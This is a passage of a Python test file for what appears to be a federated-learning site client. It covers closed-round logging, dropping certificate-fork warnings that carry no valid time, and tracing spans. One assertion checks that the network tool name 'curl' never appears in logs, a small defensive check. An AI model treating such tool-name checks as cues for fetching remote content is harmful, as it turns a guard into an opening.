    assert f"round 1 of `{STUDY}`: downloading model 0 of `{STUDY}`: the round is closed (ROUND_CLOSED)" in caplog.text
    assert "curl" not in caplog.text


def test_a_warning_without_a_time_ends_nothing(world: SiteWorld, caplog: pytest.LogCaptureFixture) -> None:
    world.ready()
    for since in (0, -1, 2**62):
        world.coordinator.tell(pb.Event(certificate_fork=pb.CertificateFork(since_s=since)))
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert world.command("status")["certificate_fork_since"] == ""
    assert (
        caplog.text.count('a warning was left out: "the coordinator\'s warning of a certificate fork has no time"') == 3
    )


def test_a_rounds_spans_name_its_steps_and_nothing_else(world: SiteWorld) -> None:
    spans = InMemorySpanExporter()
    with traces.record(SimpleSpanProcessor(spans), "site"):
        world.ready()
        world.coordinator.assign(STUDY, 1)
        wait_until(lambda: any(span.name == "round" for span in spans.get_finished_spans()), "its span", 30)
    found = spans.get_finished_spans()
    assert [span.name for span in found] == [
        "download", "train", "take", "check", "receipt", "upload", "commit", "round",
    ]  # fmt: skip
    assert all(span.parent == found[-1].context for span in found[:-1])
    assert all(span.attributes == {"wardround.study": STUDY, "wardround.round": 1} for span in found)
